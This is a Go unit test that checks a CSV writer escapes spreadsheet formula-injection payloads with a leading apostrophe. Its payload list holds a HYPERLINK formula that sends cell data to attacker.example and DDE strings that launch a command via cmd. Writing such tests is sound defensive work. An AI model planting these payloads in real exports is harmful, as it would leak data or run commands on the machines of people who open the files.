package sheet_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"breachflow/internal/sheet"
)

// TestPayloadsComeOutAsText writes the attack review's payloads, and the
// other OWASP triggers, and reads them back: each cell starts with an
// apostrophe, and Cell gives back what was written.
func TestPayloadsComeOutAsText(t *testing.T) {
	payloads := []string{
		`+1+HYPERLINK("http://attacker.example/?x="&A1,"click")`,
		`-2+3+cmd|' /C calc'!A0`,
		`=1+1`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"+821012345678",
	}
	var buf bytes.Buffer
	w := sheet.NewWriter(&buf)
	if err := w.Write(payloads); err != nil {
		t.Fatal(err)
	}
	if err := w.Write([]string{"u0001", "KR", "plain text", ""}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&buf)
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, cell := range rows[0] {
		if cell[0] != '\'' {
			t.Errorf("payload %q written as %q: a spreadsheet would evaluate it", payloads[i], cell)
		}
		if sheet.Cell(cell) != payloads[i] {
			t.Errorf("Cell(%q) = %q, want %q", cell, sheet.Cell(cell), payloads[i])
		}
	}
	for i, want := range []string{"u0001", "KR", "plain text", ""} {
		if rows[1][i] != want {
			t.Errorf("harmless cell %q written as %q", want, rows[1][i])
		}
	}
}
